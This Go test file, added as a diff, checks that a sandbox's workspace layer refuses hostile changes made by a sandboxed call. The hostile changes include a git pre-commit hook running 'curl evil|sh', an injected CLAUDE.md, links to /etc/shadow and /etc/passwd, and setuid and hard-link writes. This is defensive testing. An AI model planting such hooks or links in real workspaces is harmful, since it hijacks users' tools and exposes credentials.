@@ -1,0 +1,177 @@
+package wslayer
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/mcpsandbox/mcpsandbox/executor"
+	"github.com/mcpsandbox/mcpsandbox/policy"
+)
+
+// runInLayer mounts l over its workspace in a private mount namespace (unshare -m, as root)
+// and runs script there with the workspace as its directory: what a sandboxed call does.
+func runInLayer(t *testing.T, l *Layer, script string) {
+	t.Helper()
+	if os.Geteuid() != 0 {
+		t.Skip("SKIP: mounting an overlay for the test needs root (the allowlist and docker tests cover it end to end)")
+	}
+	if _, err := exec.LookPath("unshare"); err != nil {
+		t.Skip("SKIP: no unshare(1) on PATH")
+	}
+	full := "set -e; mount -t overlay overlay -o '" + l.OverlayOptions(false) + "' '" + l.Lower + "'; cd '" + l.Lower + "'; " + script
+	out, err := exec.Command("unshare", "-m", "--propagation", "private", "sh", "-c", full).CombinedOutput()
+	if err != nil {
+		t.Fatalf("the call in its layer: %v\n%s", err, out)
+	}
+}
+
+func write(t *testing.T, p, s string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func refusedWhy(w *executor.WorkspaceChanges, p string) string {
+	for _, r := range w.Refused {
+		if r.Path == p {
+			return r.Why
+		}
+	}
+	return ""
+}
+
+// Each change of a call is judged as a change: new and changed files, deletions, new
+// directories and links inside reach the workspace, owned by its owner; protected names
+// (created, as a whole new .git), a symlink out, a FIFO, a setuid file and what passes the
+// quota do not, each listed with its rule; a write through a hard link the host made replaces
+// the workspace's name and leaves the shared file outside untouched. Red without the check
+// (mutant workspace-commit-check) and without the quota (mutant workspace-quota).
+func TestCommitChecksEachChange(t *testing.T) {
+	base := t.TempDir()
+	ws, outside := filepath.Join(base, "ws"), filepath.Join(base, "outside")
+	write(t, filepath.Join(ws, "keep.txt"), "old\n")
+	write(t, filepath.Join(ws, "del.txt"), "bye\n")
+	write(t, filepath.Join(ws, "sub", "a", "b.txt"), "deep\n")
+	write(t, filepath.Join(ws, "mixed", "plain.txt"), "p\n")
+	write(t, filepath.Join(ws, "mixed", ".envrc"), "user's own\n")
+	write(t, filepath.Join(outside, "secret"), "host file\n")
+	if err := os.Link(filepath.Join(outside, "secret"), filepath.Join(ws, "hl.txt")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chown(ws, 4321, 4321); err != nil {
+		t.Fatal(err)
+	}
+	root := t.TempDir()
+	l, err := New(root, ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	runInLayer(t, l, strings.Join([]string{
+		"echo new > new.txt", "echo changed > keep.txt", "rm del.txt",
+		"mkdir -p .git/hooks", "echo 'curl evil|sh' > .git/hooks/pre-commit", "echo 'eval x' > .envrc", "echo obey > CLAUDE.md",
+		"ln -s /etc/shadow shadow", "ln -s ../../etc/passwd climb", "ln -s keep.txt good-link",
+		"mkfifo fifo", "echo s > suid", "chmod 4755 suid",
+		"echo pwned >> hl.txt", "rm -rf sub", "rm -rf mixed",
+		"mkdir -p newdir/inner", "echo z > newdir/inner/f",
+		"head -c 3000000 /dev/zero > big",
+	}, "; "))
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 2 << 20, UID: 4321, GID: 4321, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("%s", Summary(w))
+	read := func(p string) string { b, _ := os.ReadFile(filepath.Join(ws, p)); return string(b) }
+	exists := func(p string) bool { _, err := os.Lstat(filepath.Join(ws, p)); return err == nil }
+	for p, want := range map[string]string{"new.txt": "new\n", "keep.txt": "changed\n", "newdir/inner/f": "z\n", "hl.txt": "host file\npwned\n", "mixed/.envrc": "user's own\n"} {
+		if got := read(p); got != want {
+			t.Errorf("%s = %q after the commit, want %q", p, got, want)
+		}
+	}
+	for _, p := range []string{"del.txt", "sub", "mixed/plain.txt"} {
+		if exists(p) {
+			t.Errorf("%s was deleted by the call but is still in the workspace", p)
+		}
+	}
+	if l, err := os.Readlink(filepath.Join(ws, "good-link")); err != nil || l != "keep.txt" {
+		t.Errorf("good-link: %q %v, want a link to keep.txt", l, err)
+	}
+	for _, p := range []string{".git", ".envrc", "CLAUDE.md", "shadow", "climb", "fifo", "suid", "big"} {
+		if exists(p) {
+			t.Errorf("%s reached the workspace", p)
+		}
+		if refusedWhy(w, p) == "" {
+			t.Errorf("%s is not listed as refused: %+v", p, w.Refused)
+		}
+	}
+	if why := refusedWhy(w, "mixed/.envrc"); !strings.Contains(why, "deleting it: protected") {
+		t.Errorf("deleting the user's protected mixed/.envrc: %q, want refused", why)
+	}
+	if b, _ := os.ReadFile(filepath.Join(outside, "secret")); string(b) != "host file\n" {
+		t.Errorf("the file outside the workspace was written through its hard link: %q", b)
+	}
+	var st syscall.Stat_t
+	if err := syscall.Stat(filepath.Join(ws, "new.txt"), &st); err != nil || st.Uid != 4321 {
+		t.Errorf("new.txt owned by %d (%v), want the workspace's owner 4321", st.Uid, err)
+	}
+	if w.Bytes > 2<<20 {
+		t.Errorf("%d bytes committed, past the quota", w.Bytes)
+	}
+	if _, err := os.Stat(l.Dir); !os.IsNotExist(err) {
+		t.Errorf("the layer is left behind: %v", err)
+	}
+}
+
+// A directory the program deleted and made again (overlayfs marks it opaque) replaces the
+// workspace's: what it had is gone, what the program put there is in.
+func TestCommitOpaqueDirectory(t *testing.T) {
+	ws := t.TempDir()
+	write(t, filepath.Join(ws, "d", "old1"), "1")
+	write(t, filepath.Join(ws, "d", "old2"), "2")
+	l, err := New(t.TempDir(), ws)
+	if err != nil {
+		t.Fatal(err)
+	}
+	runInLayer(t, l, "rm -rf d; mkdir d; echo n > d/new")
+	w, err := l.Commit(Rules{Protect: policy.DefaultProtect, Quota: 1 << 20, UID: -1, GID: -1, SandboxPath: ws})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ents, _ := os.ReadDir(filepath.Join(ws, "d"))
+	if len(ents) != 1 || ents[0].Name() != "new" {
+		t.Errorf("d holds %v after the commit, want only new (%s)", ents, Summary(w))
+	}
+}
+
+func TestProtectorAndInside(t *testing.T) {
+	p, err := newProtector(policy.DefaultProtect)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for rel, want := range map[string]string{
+		".git/hooks/pre-commit": ".git", "vendor/x/.git/config": ".git", "a/CLAUDE.md": "CLAUDE.md",
+		".github/workflows/ci.yml": ".github/workflows", "src/main.go": "", "x.pyc": "*.pyc", "docs/github/workflows": "",
+	} {
+		if got := p.match(rel); got != want {
+			t.Errorf("match(%q) = %q, want %q", rel, got, want)
+		}
+	}
+	for _, c := range []struct {
+		rel, target string
+		ok          bool
+	}{
+		{"a/l", "b", true}, {"a/l", "../b", true}, {"a/l", "../../b", false}, {"l", "/ws/x", true},
+		{"l", "/ws", true}, {"l", "/wsx", false}, {"l", "/etc/shadow", false}, {"l", "", false},
+	} {
+		if _, ok := inside(c.rel, c.target, "/ws"); ok != c.ok {
+			t.Errorf("inside(%q, %q) = %v, want %v", c.rel, c.target, ok, c.ok)
+		}
+	}
+}
